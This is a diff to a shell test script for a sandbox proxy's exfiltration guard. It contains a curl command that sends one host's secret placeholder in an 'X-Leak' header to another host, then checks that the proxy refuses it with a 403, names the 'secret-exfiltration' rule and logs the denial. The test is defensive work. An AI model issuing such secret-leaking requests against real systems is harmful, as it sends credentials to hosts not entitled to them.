@@ -203,8 +203,9 @@ check_exfiltration_guard() { # BACKEND: a placeholder to another host is refused
   assert_contains "$out" "403" "$BE: placeholder in the URL refused" || return
   assert_eq "$n" "$(wc -l <"$WORK/origin/other-http.jsonl")" "$BE: nothing reached other.test" || return
   # A placeholder of evil.test's secret sent to good.test (a host with secrets of its own): refused too.
-  out=$(inside "$id" sh -c 'curl -s --max-time 10 -w " %{http_code}" -H "X-Leak: $EVIL_KEY" https://good.test:8443/cross')
+  out=$(inside "$id" sh -c 'curl -s -i --max-time 10 -H "X-Leak: $EVIL_KEY" https://good.test:8443/cross')
   assert_contains "$out" "403" "$BE: another secret's placeholder inside TLS refused" || return
+  assert_contains "$out" "X-Sandshim-Rule: secret-exfiltration" "$BE: the refusal inside TLS names the rule" || return
   audit_of "$id" >"$WORK/a"
   jq -se '[.[] | select(.decision == "deny" and .rule == "secret-exfiltration")] | length >= 3' "$WORK/a" >/dev/null ||
     fail "$BE: exfiltration not audited"
